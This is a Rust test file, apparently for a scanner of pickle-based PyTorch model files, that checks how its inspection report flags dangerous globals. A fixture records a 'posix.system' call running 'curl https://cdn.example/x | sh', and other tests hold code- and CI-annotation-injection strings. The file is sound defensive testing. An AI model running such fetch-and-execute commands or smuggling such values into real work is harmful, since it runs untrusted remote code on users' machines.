@@ -1,0 +1,271 @@
+//! What loading one file would do, as a page.
+
+use weighbridge::policy::{GlobalVerdict, Refusal};
+use weighbridge::{
+    fact::{
+        Fact, Global, GlobalName, Hop, Observation, Place, Site, Text, Unread, Unresolved, Usage,
+        deceives,
+    },
+    report::{self, Style},
+    verdict::{Inspection, JudgedGlobal, TorchVerdict},
+};
+
+use crate::support::report::{decided, hostile};
+
+fn seen(fact: Fact, hops: &[Hop], at: Place, count: u64) -> Observation {
+    Observation {
+        fact,
+        site: Site {
+            hops: hops.to_vec(),
+            at,
+        },
+        count,
+        excerpt: None,
+    }
+}
+
+fn judged(
+    module: &str,
+    name: &str,
+    usages: &[Usage],
+    count: u64,
+    verdict: GlobalVerdict,
+) -> JudgedGlobal {
+    JudgedGlobal {
+        global: Global::Named(GlobalName::new(module, name)),
+        usages: usages.to_vec(),
+        count,
+        listed_by: (verdict == GlobalVerdict::Allowed).then(|| "torch".to_owned()),
+        verdict,
+    }
+}
+
+fn refused(why: Refusal, danger: Option<&'static str>) -> GlobalVerdict {
+    GlobalVerdict::Refused {
+        why,
+        decided_by: None,
+        danger,
+    }
+}
+
+fn page(inspection: &Inspection, style: Style) -> String {
+    let mut out = Vec::new();
+    report::inspect(inspection, style, &mut out).unwrap();
+    String::from_utf8(out).unwrap()
+}
+
+fn resnet() -> Inspection {
+    let pickle = [Hop::Member {
+        name: "archive/data.pkl".into(),
+        copy: 0,
+    }];
+    let at = |offset, op: &str| Place::Opcode {
+        offset,
+        op: op.to_owned(),
+    };
+    let system = Global::Named(GlobalName::new("posix", "system"));
+    let rebuild = Global::Named(GlobalName::new("torch._utils", "_rebuild_tensor_v2"));
+    let call = |callee: &Global, preview: &str| Fact::Call {
+        callee: callee.clone(),
+        usage: Usage::Call,
+        preview: preview.into(),
+        arguments: Vec::new(),
+    };
+    let member = |name: &str, size| {
+        let name = name.into();
+        seen(Fact::Member { name, size }, &[], Place::Whole, 1)
+    };
+    Inspection {
+        path: "models/resnet.pt".into(),
+        size: 46_830_571,
+        policy: "recommended (built in)".to_owned(),
+        observations: vec![
+            seen(Fact::Is("torch-zip".into()), &[], Place::Whole, 1),
+            member("archive/data.pkl", 1_234),
+            member("archive/data/0", 37_632),
+            member("archive/version", 2),
+            seen(Fact::Is("pickle".into()), &pickle, Place::Whole, 1),
+            seen(
+                call(&rebuild, "torch._utils._rebuild_tensor_v2(<persistent id ('storage', torch.FloatStorage, '0', 'cpu', 9408)>, 0, (64, 3, 7, 7), …)"),
+                &pickle,
+                at(0x5a, "REDUCE"),
+                62,
+            ),
+            seen(call(&system, "posix.system('curl https://cdn.example/x | sh')"), &pickle, at(0x1f, "REDUCE"), 1),
+            seen(
+                Fact::PersistentId {
+                    preview: "('storage', …)".into(),
+                    torch_storage: true,
+                },
+                &pickle,
+                at(0x44, "BINPERSID"),
+                62,
+            ),
+            seen(
+                Fact::StateOnNonInstance {
+                    target: "torch.nn.functional".into(),
+                },
+                &pickle,
+                at(0x90, "BUILD"),
+                1,
+            ),
+            seen(
+                Fact::Anomaly {
+                    kind: "bytes-after-stop".into(),
+                    detail: "31 bytes follow the pickle's end".into(),
+                },
+                &pickle,
+                Place::Bytes { start: 1_203, end: 1_234 },
+                1,
+            ),
+            seen(
+                Fact::Unread(Unread::Malformed {
+                    detail: "opcode 0xff does not exist".into(),
+                }),
+                &pickle,
+                Place::Bytes { start: 1_203, end: 1_204 },
+                1,
+            ),
+        ],
+        globals: vec![
+            judged("posix", "system", &[Usage::Import, Usage::Call], 1, GlobalVerdict::Refused {
+                why: Refusal::Unlisted { near: None },
+                decided_by: Some(decided("weighbridge.yaml", 7, "allow: [torch]", "torch", "")),
+                danger: Some("runs a shell command"),
+            }),
+            judged("collections", "OrderedDict", &[Usage::Call], 3, GlobalVerdict::Allowed),
+            judged("torch._utils", "_rebuild_tensor_v2", &[Usage::Import, Usage::Call], 62, GlobalVerdict::Allowed),
+            judged("torch", "FloatStorge", &[Usage::Import], 1, refused(
+                Refusal::Unlisted { near: Some("torch.FloatStorage".to_owned()) },
+                None,
+            )),
+            judged("torch.nn", "Module", &[Usage::Call], 1, refused(
+                Refusal::Use { allowed: vec![Usage::Construct, Usage::Build] },
+                None,
+            )),
+            JudgedGlobal {
+                global: Global::Unresolved(Unresolved::Computed),
+                usages: vec![Usage::Call],
+                count: 2,
+                verdict: refused(Refusal::Unlisted { near: None }, None),
+                listed_by: None,
+            },
+        ],
+        torch_loads: vec![TorchVerdict {
+            place: String::new(),
+            loads: false,
+            reasons: vec!["its unpickler does not list numpy._core.multiarray.scalar and numpy.dtype".to_owned()],
+            safe_globals: vec![
+                GlobalName::new("numpy._core.multiarray", "scalar"),
+                GlobalName::new("numpy", "dtype"),
+            ],
+        }],
+        disassembly: Some(vec![
+            "0x0  PROTO            2".to_owned(),
+            "0x2  GLOBAL           posix.system          imports posix".to_owned(),
+            "0x1f  REDUCE           posix.system('curl https://cdn.example/x | sh') and a long explanation of it".to_owned(),
+        ]),
+    }
+}
+
+#[test]
+fn a_hostile_torch_zip() {
+    insta::assert_snapshot!("inspect", page(&resnet(), Style::default()));
+    let ascii = Style {
+        unicode: false,
+        width: 60,
+        ..Style::default()
+    };
+    insta::assert_snapshot!("inspect_ascii_60_columns", page(&resnet(), ascii));
+}
+
+#[test]
+fn a_file_of_nothing_but_tensors() {
+    let inspection = Inspection {
+        path: "model.safetensors".into(),
+        size: 1 << 40,
+        observations: vec![seen(Fact::Is("safetensors".into()), &[], Place::Whole, 1)],
+        ..Inspection::default()
+    };
+    insta::assert_snapshot!(page(&inspection, Style::default()), @"
+    model.safetensors  1.0 TiB
+      safetensors
+
+    Loading it imports nothing by name.
+    ");
+}
+
+/// A thousand harmless calls do not hide the one that matters.
+#[test]
+fn refused_calls_come_first() {
+    let mut inspection = resnet();
+    let rebuild = inspection.observations[5].clone();
+    inspection
+        .observations
+        .splice(5..5, std::iter::repeat_n(rebuild, 1000));
+    let text = page(&inspection, Style::default());
+    assert!(text.find("posix.system('curl").unwrap() < text.find("_rebuild_tensor_v2(").unwrap());
+    assert!(text.contains("and 989 calls more"), "{text}");
+}
+
+/// A snippet to paste into a program holds identifiers and nothing else.
+#[test]
+fn a_snippet_cannot_carry_code() {
+    for (module, name) in [
+        ("os\nimport x", "y"),
+        ("a", "b]); evil(["),
+        ("", "x"),
+        ("a b", "c"),
+        ("é", "x"),
+    ] {
+        let mut inspection = resnet();
+        inspection.torch_loads[0].safe_globals = vec![GlobalName::new(module, name)];
+        assert!(!page(&inspection, Style::default()).contains("safe_globals(["));
+    }
+}
+
+#[test]
+fn no_name_can_forge_the_page() {
+    forge(&hostile());
+    forge("::error file=x::forged");
+    forge(
+        "   ::error::forged and long enough to be wrapped over several lines ::warning::of the page",
+    );
+}
+
+fn forge(name: &str) {
+    let hostile = || name.to_owned();
+    let hostile_text = || Text::from(name);
+    let mut inspection = resnet();
+    inspection.path = hostile_text();
+    inspection.policy = hostile();
+    inspection.disassembly = Some(vec![hostile(), format!("0x1 {}", hostile())]);
+    for global in &mut inspection.globals {
+        global.global = Global::Named(GlobalName::new(hostile_text(), hostile_text()));
+        global.listed_by = Some(hostile());
+    }
+    inspection.torch_loads[0].reasons = vec![hostile()];
+    inspection.torch_loads[0].place = hostile();
+    for observation in &mut inspection.observations {
+        observation.site.hops = vec![Hop::Member {
+            name: hostile_text(),
+            copy: 0,
+        }];
+        match &mut observation.fact {
+            Fact::Is(id) => *id = hostile(),
+            Fact::Member { name, .. } => *name = hostile_text(),
+            Fact::Call { preview, .. } => *preview = hostile_text(),
+            Fact::Anomaly { kind, detail } => (*kind, *detail) = (hostile(), hostile_text()),
+            Fact::StateOnNonInstance { target } => *target = hostile_text(),
+            Fact::Unread(Unread::Malformed { detail }) => *detail = hostile_text(),
+            _ => {}
+        }
+    }
+    for line in page(&inspection, Style::default()).split('\n') {
+        assert_eq!(line.chars().find(|c| deceives(*c)), None, "{line}");
+        assert!(
+            !line.trim_start().starts_with("::") && !line.contains("##["),
+            "{line}"
+        );
+    }
+}
